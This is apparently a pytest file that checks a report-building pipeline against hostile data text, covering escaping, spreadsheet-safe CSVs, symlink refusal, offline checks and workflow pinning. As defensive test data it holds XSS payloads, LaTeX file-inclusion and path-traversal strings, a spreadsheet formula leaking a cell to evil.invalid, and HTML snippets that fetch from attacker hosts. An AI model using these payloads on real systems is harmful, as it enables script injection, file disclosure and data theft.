"""Data text is untrusted: it is shown as text, it cannot reach the reader's browser as code,
it cannot pull a file of the build machine into the book, and nothing leaves the site.

The hostile build writes markup, MyST roles and directives, LaTeX commands and unquoted
external images into every free-text cell of every table (a copy of the repository),
builds the book once (site and PDF), and looks at the result as a reader would. Line
breaks in cells are refused by the loader (tests/test_data.py), so they are not part of it.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml

from report.foundation import escape
from report.foundation.paths import ROOT  # noqa: E402
from report.site.offline import external_addresses, is_external
from report.site.tools import served, toc_pages

TYPED = "R&D 100% $5 a_b < 5 minutes"


# --- the escaping functions --------------------------------------------------------------


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "R&D", '"quoted"', "a\nb"])
def test_html_text_is_inert(text):
    out = escape.html_text(text)
    assert "<" not in out and '"' not in out and "\n" not in out


def test_myst_text_escapes_every_markup_character():
    out = escape.myst_text("{download}`x <../../etc/passwd>` :::{raw} latex $x$ 100% a_b")
    assert re.search(r"(?<!\\)[`{}<>:$%_]", out) is None, out


def test_latex_text_neutralises_commands():
    assert (
        escape.latex_text(r"\input{/etc/hostname} 100% $5 a_b")
        == r"\textbackslash{}input\{/etc/hostname\} 100\% \$5 a\_b"
    )


def test_bibtex_text_cannot_close_the_field():
    assert "{" not in escape.bibtex_text("x}, url = {javascript:alert(1)") and "}" not in escape.bibtex_text(
        "}"
    )


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "//host/x"]
)
def test_url_refuses_other_schemes(address):
    with pytest.raises(ValueError):
        escape.url(address)


def test_url_cannot_break_out_of_a_link():
    out = escape.url('https://example.org/a)"}<img src=x onerror=y>')
    assert not set(out) & set(')"}< '), out


def test_tooltip_escapes_each_line_and_keeps_its_own_breaks():
    out = escape.tooltip("<b>bold</b>", "x" * 130, width=60)
    assert out.startswith("&lt;b&gt;bold&lt;/b&gt;<br>") and out.count("<br>") == 3


# --- matplotlib reads no data text as math (issue 25, item 2) ------------------------------


@pytest.mark.parametrize("item", ["Gerbera decoy drone $\\alpha^$ (unit build cost)", "$10k-$20k"])
def test_matplotlib_draws_data_text_as_typed(tmp_path, monkeypatch, item):
    """'$\\alpha^$' stopped the build with a notebook traceback; '$10k-$20k' lost its dollar
    signs and turned italic. Here a chart is made as a chapter makes one, in a kernel whose
    math parsing is on (as matplotlib starts), with the text as a tick label, title and legend."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from matplotlib.text import Text

    from report.rendering.charts import matplotlib_chart

    monkeypatch.setenv("REPORT_FIGURES_DIR", str(tmp_path))
    with matplotlib.rc_context({"text.parse_math": True}):
        fig, ax = plt.subplots()
        ax.plot([10000, 20000], [0, 0], label=item)
        ax.set_yticks([0], [item])
        ax.set_title(item)
        ax.legend()
        texts = []
        original = fig.savefig

        def save_and_look(*args, **kwargs):
            texts.extend(t for t in fig.findobj(Text) if item in t.get_text())
            return original(*args, **kwargs)

        fig.savefig = save_and_look
        matplotlib_chart(
            fig, "hostile-costs", alt="a chart", source="data/costs.csv", data=pd.DataFrame({"item": [item]})
        )
    # Drawn as typed: no math parsing; the phone drawing may wrap a long label over lines.
    assert len(texts) >= 3
    assert all(t._preprocess_math(t.get_text()) == (t.get_text(), False) for t in texts)
    assert all(" ".join(t.get_text().split()) == item for t in texts)
    assert (tmp_path / "hostile-costs.svg").stat().st_size > 0


# --- published CSVs are safe in a spreadsheet (issue 25, item 6) -------------------------

FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "cell, published",
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("1e-05", "1e-05"),
        ("Tallinn", "Tallinn"),
    ],
)
def test_csv_cells_are_neutralised_the_owasp_way(cell, published):
    assert escape.csv_cell(cell) == published


def _downloads(tmp_path, monkeypatch) -> tuple[Path, Path, Path]:
    data, figures, out = tmp_path / "data", tmp_path / "figures", tmp_path / "site"
    shutil.copytree(ROOT / "data", data)
    figures.mkdir()
    out.mkdir()
    monkeypatch.setenv("REPORT_DATA_DIR", str(data))
    monkeypatch.setenv("REPORT_FIGURES_DIR", str(figures))
    return data, figures, out


def test_every_published_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
    """The data downloads, the chart data and the classroom zip: a formula is published as
    text (a leading quote), a negative number stays a number. Validation refuses formulas in
    the data already; this is the second lock, and the only one for computed chart data."""
    import io
    import zipfile

    from report.site.sphinx_ext import copy_downloads

    data, figures, out = _downloads(tmp_path, monkeypatch)
    # The spreadsheet exercise is built from validated data, which refuses a formula (its own
    # neutralising is tested in tests/test_swedish.py): left out of this copy-step test.
    monkeypatch.setattr("report.rendering.workbook.write_workbook", lambda path: path.write_bytes(b""))
    with (data / "incidents.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[1][rows[0].index("notes")] = FORMULA
    with (data / "incidents.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    (figures / "chart.csv").write_text(
        f'label,value\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\n@x,3\n', encoding="utf-8"
    )
    (figures / "chart.png").write_bytes(b"png")
    copy_downloads(out)
    with zipfile.ZipFile(out / "downloads" / "data-exercise.zip") as archive:
        zipped = archive.read("data-exercise/incidents.csv").decode("utf-8")
    for text in ((out / "data" / "incidents.csv").read_text(encoding="utf-8"), zipped):
        published = list(csv.reader(io.StringIO(text)))
        assert published[1][published[0].index("notes")] == "'" + FORMULA
        assert not any(cell.startswith(("=", "+", "@")) for row in published for cell in row)
    chart = list(csv.reader(io.StringIO((out / "figures" / "chart.csv").read_text(encoding="utf-8"))))
    assert chart == [["label", "value"], ["'" + FORMULA, "-5"], ["'@x", "3"]]
    assert (out / "figures" / "chart.png").read_bytes() == b"png"
    # A file with nothing to neutralise is published byte for byte.
    assert (out / "data" / "sources.csv").read_bytes() == (data / "sources.csv").read_bytes()


# --- symbolic links are never followed into the site (issue 25, items 8 and 9) -----------


@pytest.mark.parametrize("kind", ["file", "folder", "data-file"])
def test_a_symlink_the_site_would_copy_stops_the_build(tmp_path, monkeypatch, kind):
    from sphinx.errors import ExtensionError

    from report.site.sphinx_ext import copy_downloads

    data, figures, out = _downloads(tmp_path, monkeypatch)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("CANARY-outside-the-repository\n", encoding="utf-8")
    if kind == "file":
        (figures / "chart.csv").symlink_to(outside / "secret.csv")
    elif kind == "folder":
        (figures / "more").symlink_to(outside)
    else:
        (data / "incidents.csv").unlink()
        (data / "incidents.csv").symlink_to(outside / "secret.csv")
    with pytest.raises(ExtensionError, match="symbolic links"):
        copy_downloads(out)
    assert not any("CANARY" in p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())


# --- the offline check -------------------------------------------------------------------


@pytest.mark.parametrize(
    "snippet",
    [
        "<img src=https://evil.example/x.png>",
        '<img src = "//evil.example/x.png">',
        '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
        '<object data="https://evil.example/x">',
        '<embed src="https://evil.example/x">',
        '<video poster="https://evil.example/p.png">',
        '<div style="background: url(https://evil.example/x.png)">',
        "<style>@import 'https://evil.example/x.css';</style>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<form action="https://evil.example/"></form>',
        '<svg><image xlink:href="https://evil.example/x.svg"/></svg>',
        '<iframe src="http://evil.example/"></iframe>',
    ],
)
def test_offline_check_finds_every_way_to_fetch(tmp_path, snippet):
    (tmp_path / "page.html").write_text(f"<html><body>{snippet}</body></html>", encoding="utf-8")
    assert external_addresses(tmp_path), snippet


def test_offline_check_allows_links_and_local_assets(tmp_path):
    (tmp_path / "page.html").write_text(
        '<a href="https://www.nato.int/">NATO</a><img src="_static/x.png"><img src="data:image/png;base64,AA">'
        '<link rel="stylesheet" href="_static/x.css">',
        encoding="utf-8",
    )
    (tmp_path / "x.css").write_text("a { background: url(../img/x.png) }", encoding="utf-8")
    assert external_addresses(tmp_path) == []
    assert not is_external("_static/x.js") and is_external("HTTPS://x.org/") and is_external("//x.org/")


def test_the_built_site_fetches_nothing_from_another_host(site):
    assert external_addresses(site) == []


# --- the deploy workflow -----------------------------------------------------------------


def test_deploy_workflow_is_pinned_and_least_privileged():
    text = (ROOT / ".github" / "workflows" / "deploy.yml").read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    uses = re.findall(r"uses:\s*(\S+)(.*)", text)
    assert uses and all(
        re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", ref) and re.search(r"#\s*v\d", comment)
        for ref, comment in uses
    ), uses
    assert workflow["permissions"] == {}
    assert workflow["jobs"]["build"]["permissions"] == {"contents": "read"}
    assert set(workflow["jobs"]["deploy"]["permissions"]) == {"pages", "id-token"}
    checkout = [step for step in workflow["jobs"]["build"]["steps"] if "checkout" in step.get("uses", "")]
    assert checkout and all(step["with"]["persist-credentials"] is False for step in checkout)


def test_deploy_workflow_never_hangs_and_never_cancels_a_deploy_under_way():
    """Issue 25, item 14: no job had a time limit (a hung build held a runner for hours), and
    `cancel-in-progress: true` for the whole workflow could cancel a deploy already under way.
    A newer push may cancel an older build; a deploy that has started always finishes."""
    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "deploy.yml").read_text(encoding="utf-8"))
    jobs = workflow["jobs"]
    assert all(0 < job.get("timeout-minutes", 0) <= 120 for job in jobs.values()), {
        name: job.get("timeout-minutes") for name, job in jobs.items()
    }
    assert "concurrency" not in workflow or workflow["concurrency"].get("cancel-in-progress") is False
    assert jobs["deploy"]["concurrency"]["cancel-in-progress"] is False
    assert jobs["build"]["concurrency"]["group"] != jobs["deploy"]["concurrency"]["group"]


# --- one build with hostile text in every free-text cell -------------------------------


def _payload(canary: Path) -> str:
    return (
        f'<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'
        f"<img src=https://attacker.invalid/p.png> {{download}}`x <../../../../../../..{canary}>` "
        f"{{download}}`y <{canary}>` :::{{raw}} html <b>raw</b> ::: ```{{raw}} latex \\input{{{canary}}}``` "
        f"[link](javascript:window.__pwned=1) $x^2$ %comment \\input{{{canary}}} {TYPED}"
    )


def _free_text_fields(resource: dict) -> list[str]:
    """String columns with no enum or pattern that are not ids or links to other tables."""
    keys = {name for fk in resource["schema"].get("foreignKeys", []) for name in fk["fields"]}
    return [
        f["name"]
        for f in resource["schema"]["fields"]
        if f.get("type", "string") == "string"
        and not {"enum", "pattern", "unique"} & set(f.get("constraints", {}))
        and f["name"] not in keys | {"url"}
        and not f["name"].endswith(("_id", "_ids"))
    ]


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    work = tmp_path_factory.mktemp("hostile")
    canary = work / "outside" / "canary.txt"
    canary.parent.mkdir()
    canary.write_text("CANARY-4f1d9e-build-machine-secret\n", encoding="utf-8")
    repo = work / "repo"
    shutil.copytree(
        ROOT,
        repo,
        ignore=shutil.ignore_patterns(
            ".git", "_build", ".venv", "node_modules", "test-artifacts", "__pycache__", "*.egg-info"
        ),
    )
    (repo / "node_modules").symlink_to(ROOT / "node_modules")
    package = json.loads((repo / "data" / "datapackage.json").read_text(encoding="utf-8"))
    payload = _payload(canary)
    for resource in package["resources"]:
        path = repo / "data" / resource["path"]
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        columns = [rows[0].index(name) for name in _free_text_fields(resource)]
        url_column = rows[0].index("url") if "url" in rows[0] else None
        for row in rows[1:]:
            for index in columns:
                if row[index]:
                    row[index] = f"{row[index]} {payload}"
            if url_column is not None:
                row[url_column] += '?q=)"}{\\input{' + str(canary) + "}}<img/src=x/onerror=window.__pwned=1>"
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    env = {
        **os.environ,
        "PYTHONPATH": str(repo),
        "REPORT_DATA_DIR": str(repo / "data"),
        "REPORT_FIGURES_DIR": str(repo / "figures"),
    }
    bib = subprocess.run(
        [sys.executable, "-m", "report.words.bib"], cwd=repo, env=env, capture_output=True, text=True
    )
    assert bib.returncode == 0, bib.stderr[-3000:]
    result = subprocess.run(
        [sys.executable, str(repo / "scripts" / "build_book.py")],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        timeout=1500,
    )
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-5000:]
    return repo, canary


def test_no_file_from_outside_the_repository_reaches_the_book(hostile_build):
    repo, canary = hostile_build
    secret = canary.read_text(encoding="utf-8").strip()
    site = repo / "_build" / "html"
    assert not list(site.rglob("canary*")), "a file from outside the repository was copied into the site"
    for path in site.rglob("*"):
        if path.is_file() and path.suffix in {".html", ".js", ".txt", ".csv", ".json", ".xml"}:
            assert secret not in path.read_text(encoding="utf-8", errors="replace"), path
    # Every PDF the build makes: the book, the appendix, the packs, the keys and the slides.
    from report.pdf.registry import CLASSROOM

    pdfs = [
        site / "book.pdf",
        site / "appendix.pdf",
        repo / "_build" / "pdf" / "book.pdf",
        repo / "_build" / "pdf" / "appendix.pdf",
    ] + [site / "packs" / f"{name}.pdf" for name in CLASSROOM]
    assert sorted(p.name for p in site.rglob("*.pdf")) == sorted({p.name for p in pdfs}), (
        "a PDF is not checked"
    )
    for path in pdfs:
        pdf_text = subprocess.run(
            ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert secret not in pdf_text, path.name
        assert len(pdf_text) > 500, path.name
        if path.name in ("book.pdf", "appendix.pdf"):
            # The hostile text itself is there, as text (the LaTeX command shown, not run).
            assert "input" in pdf_text and "onerror" in pdf_text, path.name
            for word in ("R&D", "100%", "$5", "a_b", "< 5 minutes"):
                assert word in pdf_text, (path.name, word)


def test_hostile_text_runs_nothing_and_fetches_nothing_in_the_browser(hostile_build, browser):
    repo, _ = hostile_build
    site = repo / "_build" / "html"
    assert external_addresses(site) == []
    with served(site) as base:
        context = browser.new_context()
        left_the_site: list[str] = []

        def guard(route):
            url = route.request.url
            if url.startswith((base, "data:", "blob:")):
                route.continue_()
            else:
                left_the_site.append(url)
                route.abort()

        context.route("**/*", guard)
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        shown_as_typed = False
        for path in toc_pages() + ["chapters/99_references.html"]:
            page.goto(f"{base}/{path}", wait_until="networkidle")
            for chart in page.locator(".report-lazy-chart").all():
                chart.scroll_into_view_if_needed()
            page.wait_for_timeout(200)
            assert page.evaluate("window.__pwned") is None, f"injected script ran on {path}"
            injected = page.evaluate("""() => [...document.querySelectorAll('*')].flatMap(el =>
                [...el.attributes].filter(a => /^on/i.test(a.name) && /__pwned/.test(a.value)).map(a => el.tagName))""")
            assert not injected, f"{path}: injected event handlers on {injected}"
            assert page.locator("a[href^='javascript:']").count() == 0, path
            shown_as_typed = shown_as_typed or TYPED in page.inner_text("body")
        assert not dialogs
        assert not left_the_site, left_the_site[:5]
        assert shown_as_typed, f"{TYPED!r} is not shown as typed on any page"
        context.close()


# --- stale builds and offline rebuilds ---------------------------------------------------


def test_stored_outputs_are_refused_after_a_data_change(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    path = data / "glossary.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace("Article 4", "Article Four", 1), encoding="utf-8"
    )
    result = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "build_book.py"), "--stored-outputs"],
        env={**os.environ, "REPORT_DATA_DIR": str(data)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0
    assert "stored outputs predate" in result.stderr and "execute_notebooks.py" in result.stderr


def _notebook(*cells: tuple[str, str]) -> dict:
    return {
        "cells": [
            {
                "id": f"cell-{index}",
                "cell_type": kind,
                "source": source,
                "metadata": {},
                **({"outputs": [], "execution_count": None} if kind == "code" else {}),
            }
            for index, (kind, source) in enumerate(cells)
        ],
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def test_stored_outputs_are_refused_after_a_change_to_the_notebooks_own_code(tmp_path, monkeypatch):
    """Issue 25, item 12: a chart title changed in a chapter's code, or a new cell that
    raises, built from stored outputs without complaint. A notebook records the hash of its
    code cells when executed; the build compares it with the code as it is now."""
    import build_book
    import execute_notebooks

    from report.foundation import paths

    chapter = tmp_path / "chapters" / "10_chart.ipynb"
    chapter.parent.mkdir()
    chapter.write_text(
        json.dumps(_notebook(("markdown", "# Chart"), ("code", "title = 'Drones in September'")))
    )
    monkeypatch.setattr(paths, "toc_notebooks", lambda: [chapter])
    monkeypatch.setattr(build_book, "ROOT", tmp_path)
    monkeypatch.setattr(execute_notebooks, "ROOT", tmp_path)
    execute_notebooks.execute(chapter)  # a real execution records both fingerprints
    assert build_book.stale_notebooks() == []

    def edited(change) -> list[str]:
        content = json.loads(chapter.read_text(encoding="utf-8"))
        change(content["cells"])
        edited_path = chapter.with_name("edited.ipynb")
        edited_path.write_text(json.dumps(content), encoding="utf-8")
        monkeypatch.setattr(paths, "toc_notebooks", lambda: [edited_path])
        return build_book.stale_notebooks()

    assert edited(lambda cells: cells[1].update(source="title = 'Drones in October'")) == [
        "chapters/edited.ipynb"
    ]
    assert edited(lambda cells: cells.append(_notebook(("code", "raise ValueError"))["cells"][0])) == [
        "chapters/edited.ipynb"
    ]
    assert edited(lambda cells: cells[0].update(source="# A chart")) == []  # prose needs no execution
    monkeypatch.setattr(paths, "toc_notebooks", lambda: [chapter])
    content = json.loads(chapter.read_text(encoding="utf-8"))
    del content["metadata"]["report"]["code_fingerprint"]  # executed before this check existed
    chapter.write_text(json.dumps(content), encoding="utf-8")
    assert build_book.stale_notebooks() == ["chapters/10_chart.ipynb"]


def test_a_symlink_among_the_build_inputs_stops_the_build_before_reading(tmp_path, monkeypatch):
    """Issue 25, items 8 and 9: a symlink in figures/ (to a file or a folder outside the
    repository) was copied into the site; one in data/ was read into the build log."""
    import build_book

    figures = tmp_path / "figures"
    figures.mkdir()
    (figures / "passwd.png").symlink_to("/etc/passwd")
    (figures / "outside").symlink_to("/etc")
    monkeypatch.setenv("REPORT_FIGURES_DIR", str(figures))
    assert set(build_book.symlinks_in_inputs()) >= {figures / "passwd.png", figures / "outside"}
    result = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "build_book.py"), "--html-only"],
        env={**os.environ, "REPORT_FIGURES_DIR": str(figures)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1
    assert (
        result.stderr.startswith("build failed: symbolic links")
        and "passwd.png -> /etc/passwd" in result.stderr
    )
    assert "root:" not in result.stdout + result.stderr


def test_the_stored_notebooks_were_executed_with_the_current_inputs():
    from build_book import stale_notebooks

    assert stale_notebooks() == [], (
        "run `.venv/bin/python scripts/execute_notebooks.py` and commit the notebooks"
    )


def test_notebooks_carry_no_volatile_execution_metadata():
    from report.foundation.paths import toc_notebooks

    for notebook in toc_notebooks():
        cells = json.loads(notebook.read_text(encoding="utf-8"))["cells"]
        assert not any("execution" in cell.get("metadata", {}) for cell in cells), notebook.name


def test_a_rebuild_with_nothing_changed_never_calls_the_registry(tmp_path):
    """setup.sh with a complete node_modules and an npm that always fails (no registry)."""
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "npm").write_text("#!/bin/sh\necho 'npm was called' >&2\nexit 1\n")
    (fake / "npm").chmod(0o755)
    result = subprocess.run(
        ["bash", "-c", f"source {ROOT / 'scripts' / 'setup.sh'} && echo ready"],
        env={**os.environ, "PATH": f"{fake}:{os.environ['PATH']}"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0 and "ready" in result.stdout, result.stderr[-2000:]
    assert "npm was called" not in result.stderr
